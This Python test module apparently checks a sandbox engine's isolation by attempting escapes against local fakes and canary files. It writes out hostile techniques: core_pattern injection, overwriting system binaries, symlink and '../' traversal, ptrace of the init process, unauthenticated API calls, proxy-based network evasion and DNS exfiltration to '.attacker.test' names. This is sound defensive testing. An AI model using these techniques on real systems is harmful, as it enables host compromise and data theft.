"""Attempts that need more than a program in the sandbox: something on the host, a second sandbox, or the SDK.

Each returns what got through, by name.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import secrets
import shlex
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from e2b import ALL_TRAFFIC, CommandExitException, Sandbox, SandboxException

from tests.acceptance.isolation.levels import ROOT, Level
from tests.harness.engine import Engine
from tests.protocol.fake_internet import API, FakeInternet

ATTACKS = (Path(__file__).parents[1] / "attacks.py").read_text()
METADATA_SERVICE = "169.254.169.254"
RUN_SECONDS = 180
STOPPED_SECONDS = 20
Succeeded = dict[str, str]
NewSandbox = Callable[..., Sandbox]


@dataclass
class Bench:
    """Everything that a scenario uses at one level."""

    level: Level
    engine: Engine
    new_sandbox: NewSandbox
    """Create a further sandbox of the level, with options of `Sandbox.create`."""
    attacker: Sandbox
    canary: Path
    """A world-readable file of the host that sandboxes must not see or change."""
    domain: str
    given: str
    """A value that the client has passed to the attacker as a variable."""
    internet: FakeInternet | None = None

    def run(self, *attacks: str, sandbox: Sandbox | None = None, positions: tuple[str, ...] | None = None) -> Succeeded:
        """Run attacks from every position of the level and return those that succeeded, without their arguments."""
        succeeded = {}
        for position in positions or self.level.positions:
            for attack, result in run_attacks(sandbox or self.attacker, *attacks, prefix=position).items():
                succeeded[attack.partition(":")[0]] = result
        return succeeded

    @property
    def values(self) -> dict[str, str]:
        """What attacks can name in their arguments. Texts to search for are in hexadecimal, so as not to be found there."""
        return {
            "canary": str(self.canary),
            "canary_text": self.canary.read_text().encode().hex(),
            "kernel": os.uname().release,
            "key": self.engine.key.encode().hex(),
            "given": self.given.encode().hex(),
            "database": str(self.engine.data / "engine.db"),
        }


def run_attacks(sandbox: Sandbox, *names: str, user: str = "root", prefix: str = "") -> Succeeded:
    """Run attacks inside the sandbox and return those that succeeded, with their results."""
    sandbox.files.write("/tmp/attacks.py", ATTACKS, user="root")
    command = f"{prefix} python3 /tmp/attacks.py {shlex.join(names)}"
    outcome = json.loads(sandbox.commands.run(command, user=user, timeout=RUN_SECONDS).stdout)
    assert outcome, "no attack was run"
    return {name: got for name, (outcome_kind, got) in outcome.items() if outcome_kind != "failed"}


@contextlib.contextmanager
def host_service(address: str | bytes, family: int = socket.AF_INET) -> Iterator[int]:
    """Run a service on the host that greets every client, and yield its port."""
    with socket.socket(family) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind((address, 0) if family == socket.AF_INET else address)
        server.listen()

        def send_greeting() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    connection.sendall(b"secret")
                    connection.close()

        thread = threading.Thread(target=send_greeting, daemon=True)
        thread.start()
        yield server.getsockname()[1] if family == socket.AF_INET else 0
        with contextlib.suppress(OSError):
            server.shutdown(socket.SHUT_RDWR)
        thread.join()


def host_addresses(sandbox: Sandbox) -> list[str]:
    """Return addresses by which a sandbox might reach the host: its gateway, and those of the host's interfaces."""
    gateway = sandbox.commands.run("awk '$2 == \"00000000\" {print $3}' /proc/net/route").stdout.strip()
    listed = subprocess.run(
        ["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True, check=True
    )
    addresses = {line.split()[3].partition("/")[0] for line in listed.stdout.splitlines()}
    return sorted(addresses | ({socket.inet_ntoa(bytes.fromhex(gateway)[::-1])} if gateway else set()))[:8]


def curl(sandbox: Sandbox, *arguments: str) -> str:
    """Run curl in a sandbox and return the body and the status, or 000 if there is no response."""
    command = shlex.join(["curl", "-s", "-k", "-m", "5", "-w", " %{http_code}", *arguments])
    return sandbox.commands.run(f"{command} || true").stdout.strip()


def find_processes_of_the_machine(bench: Bench) -> Succeeded:
    marker = secrets.token_hex(16)
    with subprocess.Popen([sys.executable, "-c", "input()", marker], stdin=subprocess.PIPE) as process:
        succeeded = bench.run(
            f"environment_of_processes:{marker.encode().hex()}", f"canary_by_processes:{bench.canary}"
        )
        process.communicate(b"\n")
    return succeeded


def change_limits(bench: Bench) -> Succeeded:
    """Write to every limit that can be seen. A changed limit of the host is an escape, one of the sandbox's own kernel is not."""
    folders = json.loads((bench.engine.data / "instance.json").read_text())["cgroups"].values()
    names = ("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max", "cpu.cfs_quota_us")
    files = [
        file
        for folder in folders
        for name in names
        for file in Path(folder).rglob(f"{bench.attacker.sandbox_id}*/{name}")
    ]
    before = {file: file.read_text() for file in files}
    assert before, "the sandbox must have limits, or the test proves nothing"
    succeeded = bench.run("cgroup_limits")
    changed = [str(file) for file, text in before.items() if file.read_text() != text]
    return succeeded | ({"limits of the host": str(changed)} if changed else {})


def change_settings_of_the_kernel(bench: Bench) -> Succeeded:
    """Write to settings that the kernel does not keep per namespace, also as options of a container."""
    path = Path("/proc/sys/kernel/core_pattern")
    before = path.read_text()
    succeeded = bench.run("core_pattern", "modprobe_path", "overcommit", "sysrq", "uevent_helper")
    if bench.level.containers:
        options = ("kernel.core_pattern=|/tmp/owned", "kernel.shm_rmid_forced=1+kernel.core_pattern=|/tmp/owned")
        for option in options:
            with contextlib.suppress(CommandExitException):
                bench.attacker.commands.run(
                    f"docker run --rm --sysctl {shlex.quote(option)} tiny /chroot --version", user="root", timeout=60
                )
                succeeded["a container's setting"] = option
    return succeeded | ({"setting of the host": path.read_text()} if path.read_text() != before else {})


def attack_the_agent(bench: Bench) -> Succeeded:
    """Read, trace and restrict process 1. Whatever happens to it, other sandboxes and the engine must not notice."""
    victim = bench.new_sandbox()
    harmless = ("init_memory", "init_environment", "init_files", "init_root", "init_executable", "init_read_memory")
    succeeded = bench.run(*harmless, sandbox=victim, positions=(ROOT,))
    try:
        succeeded |= bench.run("init_limits", sandbox=victim, positions=(ROOT,))
        # tracing stops the agent, so that the command gets no result if it succeeds
        victim.commands.run("python3 /tmp/attacks.py init_ptrace >/dev/null", user="root", timeout=STOPPED_SECONDS)
    except SandboxException as error:
        succeeded["agent stopped"] = str(error)[:100]
    else:
        succeeded |= bench.run("init_ptrace", sandbox=victim, positions=(ROOT,))
    assert bench.attacker.commands.run("echo well").stdout == "well\n"
    victim.kill()
    with bench.engine.client() as client:
        assert client.get("/v2/sandboxes").status_code == 200
    return succeeded


def write_to_a_private_copy(bench: Bench) -> Succeeded:
    succeeded = bench.run(f"write_private_copy:{bench.values['kernel']}")
    changed = {name: result for name, result in succeeded.items() if "'original'" not in result}
    return {**succeeded, "file changed": str(changed)} if changed else succeeded


def copy_out(bench: Bench) -> Succeeded:
    """Replace the program that packs files, and lay out links and names that lead a client's copy elsewhere."""
    before = bench.canary.read_text()
    victim = bench.new_sandbox()
    for program in ("tar", "cat", "ls", "find"):
        victim.files.write(f"/usr/bin/{program}", f"#!/bin/sh\necho owned > {bench.canary}\n", user="root")
    victim.commands.run(
        f"mkdir out && cd out && ln -s {bench.canary} link && ln -s {bench.canary.parent} folder && "
        f"ln -s /proc/1/root{bench.canary} init"
    )
    succeeded = {}
    for entry in victim.files.list("out"):
        if ".." in entry.name or "/" in entry.name:
            succeeded["name with a path"] = entry.name
    for path in ("out/link", f"out/folder/{bench.canary.name}", "out/init", f"../../../../../..{bench.canary}"):
        with contextlib.suppress(SandboxException):
            if victim.files.read(path) == before:
                succeeded["file read"] = path
        with contextlib.suppress(SandboxException):
            victim.files.write(path, "owned", user="root")
    if bench.canary.read_text() != before:
        succeeded["file written"] = bench.canary.read_text()
        bench.canary.write_text(before)
    return succeeded


def search_files(bench: Bench) -> Succeeded:
    """Search for the engine's key and for the contents of a file of the host."""
    bench.attacker.files.write("/home/user/given", bench.given)
    assert run_attacks(bench.attacker, f"files_with:{bench.values['given']}"), (
        "a file of the sandbox must be found, or the test proves nothing"
    )
    return bench.run(f"files_with:{bench.values['key']}", f"files_with:{bench.values['canary_text']}")


def use_the_control_plane(bench: Bench) -> Succeeded:
    """Look for a credential of the engine's API in the sandbox, and use the API without one and with those of the sandbox."""
    succeeded = bench.run(f"environment_of_processes:{bench.values['key']}")
    api = f"https://api.{bench.domain}"
    assert curl(bench.attacker, f"{api}/health").endswith("204"), (
        "the API must be reachable, or the test proves nothing"
    )
    other = bench.new_sandbox()
    for arguments in (
        (f"{api}/v2/sandboxes",),
        (f"{api}/v2/sandboxes", "-H", f"X-API-KEY: {bench.attacker.sandbox_id}"),
        (f"{api}/sandboxes/{other.sandbox_id}", "-X", "DELETE"),
        (f"https://49983-{other.sandbox_id}.{bench.domain}/files?path=/etc/passwd",),
    ):
        if not curl(bench.attacker, *arguments).endswith((" 401", " 403")):
            succeeded["API"] = shlex.join(arguments)
    return succeeded


def reach_loopback_of_the_host(bench: Bench) -> Succeeded:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, host_service("127.0.0.1") as port:
        receiver.bind(("127.0.0.1", 0))
        receiver.setblocking(False)
        bench.run(f"datagram_to_loopback_of_host:{receiver.getsockname()[1]}")
        succeeded = bench.run(f"connect:127.0.0.1:{port}")
        with contextlib.suppress(BlockingIOError):
            succeeded["datagram"] = receiver.recv(100).decode()
    return succeeded


def start_in_an_inherited_directory(bench: Bench) -> Succeeded:
    """Use a client's choice of the working directory, and descriptors that a process has inherited, as a way out."""
    succeeded = bench.run(f"leaked_descriptors:{bench.canary}")
    up = "../" * 12
    for number in range(3, 16):
        for directory in (f"/proc/self/fd/{number}", f"/proc/1/fd/{number}"):
            with contextlib.suppress(SandboxException):
                bench.attacker.commands.run(f"cat {up}{bench.canary}", cwd=directory, user="root")
                succeeded["directory"] = directory
    return succeeded


@contextlib.contextmanager
def metadata_service() -> Iterator[int]:
    """Run a fake service at the address that clouds use, so that nothing leaves this machine, and yield its port."""
    command = ["ip", "addr", "", f"{METADATA_SERVICE}/32", "dev", "lo"]
    with (Path(tempfile.gettempdir()) / "sandyard-metadata-service.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # two tests can run at the same time
        subprocess.run([part or "add" for part in command], check=True)
        try:
            with host_service(METADATA_SERVICE) as port:
                with socket.create_connection((METADATA_SERVICE, port), timeout=5) as seen:
                    assert seen.recv(10) == b"secret", "the fake service must work, or the test proves nothing"
                yield port
        finally:
            subprocess.run([part or "del" for part in command], check=True)


def reach_the_metadata_service(bench: Bench) -> Succeeded:
    with metadata_service() as port:
        return bench.run(f"connect:{METADATA_SERVICE}:{port}")


def reach_databases(bench: Bench) -> Succeeded:
    """Open the engine's database, and connect to a service of the host by every address."""
    with host_service("0.0.0.0") as port:
        targets = [f"connect:{address}:{port}" for address in host_addresses(bench.attacker)]
        return bench.run(f"canary_by_path:{bench.engine.data / 'engine.db'}", *targets)


def signal_another_sandbox(bench: Bench) -> Succeeded:
    """Leave a message in every named object of one sandbox and look for it in another."""
    text = secrets.token_hex(4)
    sender = bench.new_sandbox()
    sender.files.write("/tmp/attacks.py", ATTACKS, user="root")
    sender.commands.run(f"python3 /tmp/attacks.py leave_message:{text}", user="root", background=True)
    sender.commands.run("until [ -e /tmp/left ]; do sleep 0.05; done", timeout=30)
    assert run_attacks(sender, f"find_message:{text}"), "the sender itself must find it, or the test proves nothing"
    return bench.run(f"find_message:{text}")


FATAL_FOR_ITSELF = frozenset({"init_limits", "init_ptrace", "unmount_masks", "network_admin", "reboot"})
"""Attacks after which a sandbox with its own kernel has harmed itself, so that those after them would show nothing."""


def attack_everything(bench: Bench) -> Succeeded:
    """Run every attack of the escape tests, whatever it is aimed at, as root and as the ordinary user."""
    listing = subprocess.run(
        [sys.executable, "-c", f"{ATTACKS.rpartition('if __name__')[0]}\nprint(*list_plain_attacks())"],
        capture_output=True,
        text=True,
        check=True,
    )
    own_kernel = bench.level.isolation == "gvisor"
    attacks = [name for name in listing.stdout.split() if not (own_kernel and name in FATAL_FOR_ITSELF)]
    succeeded: Succeeded = {}
    for user in ("root", "user"):
        victim = bench.new_sandbox()
        succeeded |= run_attacks(victim, *attacks, user=user)
        victim.kill()
    assert bench.attacker.commands.run("echo well").stdout == "well\n"
    return succeeded


def _internet(bench: Bench) -> FakeInternet:
    assert bench.internet is not None
    return bench.internet


def leave_a_limited_network(bench: Bench) -> Succeeded:
    """Reach a server that is not allowed: directly, with other spellings and ports, with other names, and by a proxy."""
    internet = _internet(bench)
    address = internet.address
    opened = bench.new_sandbox(network={"allow_out": [address], "deny_out": [ALL_TRAFFIC]})
    assert curl(opened, f"http://{address}/control").endswith("200"), "the server must work, or the test proves nothing"
    closed = bench.new_sandbox(network={"allow_out": ["192.0.2.1"], "deny_out": [ALL_TRAFFIC]})
    number = int.from_bytes(socket.inet_aton(address), "big")
    for arguments in (
        (f"http://{address}/",),
        (f"https://{address}/",),
        (f"http://{number}/",),
        (f"http://{address}/", "-H", "Host: 192.0.2.1"),
        (f"https://{API}/", "--resolve", f"{API}:443:{address}"),
        ("http://192.0.2.1/", "-x", f"http://{address}:80"),
        ("https://192.0.2.1/", "-x", f"http://{address}:443", "-p"),
        (f"http://[::ffff:{address}]/",),
    ):
        curl(closed, "-m", "2", *arguments)
    if bench.level.containers:
        closed.commands.run(f"unshare -rn curl -m 2 http://{address}/ || true", user="root")
    seen = [request[:2] for request in internet.seen if request[1] != "/control"]
    internet.seen.clear()
    return {"request": str(seen)} if seen else {}


def send_names(bench: Bench) -> Succeeded:
    """Put data into names that are looked up: with the sandbox's resolver, and with a server of the attacker's choice."""
    internet = _internet(bench)
    succeeded = {}
    for allowed in ([], ["192.0.2.1"], [API], None):
        marker = secrets.token_hex(8)
        policy = {} if allowed is None else {"network": {"allow_out": allowed, "deny_out": [ALL_TRAFFIC]}}
        sandbox = bench.new_sandbox(**policy)
        script = (
            "import socket, sys\n"
            "for name in sys.argv[1:3]:\n"
            "    try: socket.getaddrinfo(name, 80)\n"
            "    except OSError: pass\n"
        )
        names = (f"{marker}.attacker.test", f"{marker}.outside.test")
        sandbox.commands.run(shlex.join(["python3", "-c", script, *names]), timeout=60)
        arrived = any(marker in name for name in internet.queried)
        if allowed is None:
            assert arrived, "an open network must forward names, or the test proves nothing"
        elif arrived:
            succeeded["name"] = str(allowed)
    return succeeded


def hide_data_in_allowed_traffic(bench: Bench) -> Succeeded:
    internet = _internet(bench)
    marker = secrets.token_hex(8)
    sandbox = bench.new_sandbox(network={"allow_out": [API, internet.address], "deny_out": [ALL_TRAFFIC]})
    curl(sandbox, f"http://{API}/{marker}", "-H", f"X-Hidden: {marker}")
    seen = [request for request in internet.seen if marker in request[1]]
    internet.seen.clear()
    return {"request": str(seen)} if seen else {}
